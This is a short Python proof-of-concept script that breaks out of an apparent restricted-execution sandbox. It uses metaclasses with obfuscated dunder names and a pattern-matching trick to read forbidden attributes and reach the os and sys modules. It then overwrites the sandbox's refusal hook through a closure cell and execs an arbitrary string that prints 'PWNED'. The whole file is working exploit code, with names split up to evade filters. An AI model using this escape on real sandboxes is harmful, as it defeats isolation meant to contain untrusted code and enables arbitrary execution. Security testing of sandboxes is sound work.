# NOTE: class maker called with bases and namespace held in variables
import operator
def _dead():
    class K:
        pass
    return K
mk = type(int)
ic = "__instance" + "check__"
ma = "__match" + "_args__"
cur = [("__in" + "it__",)]
BM = (mk,)
NM = {ic: lambda c, o: True, ma: property(lambda c: cur[0])}
M = mk("M", BM, NM)
Evil = M(*["Evil", (), {}])
pp = "__pre" + "pare__"
NX = {pp: classmethod(lambda m, n, b, **k: {"K": Evil})}
Meta = mk("Meta", BM, NX)
target = type(operator.attrgetter("real"))
req = [None]
res = [None]
def read(obj, name):
    cur[0] = (name,)
    req[0] = obj
    res[0] = None
    class H(metaclass=Meta):
        match req[0]:
            case K(v):
                res[0] = v
    return res[0]
fn = read(target, "__in" + "it__")
g = read(fn, "__glo" + "bals__")
o, s = g["o" + "s"], g["s" + "ys"]
print("os.getpid() =", o.getpid(), "sys.modules:", len(s.modules))
gb = g["__bui" + "ltins__"]
real_setattr = None
refuse_cell = None
for guard_name in ("setattr", "getattr"):
    for cell in read(gb[guard_name], "__clo" + "sure__"):
        v = read(cell, "cell_" + "contents")
        if v is g["refuse"]:
            refuse_cell = cell
        if repr(v) == "<built-in function setattr>":
            real_setattr = v
print("found", refuse_cell is not None, real_setattr is not None)
real_setattr(refuse_cell, "cell_" + "contents", lambda *a, **k: None)
code = "print('PW' + 'NED: exec of a run-time string after disabling the wall; pid', __import__('o'+'s').getpid())"
s.modules["builtins"].exec(code, {})
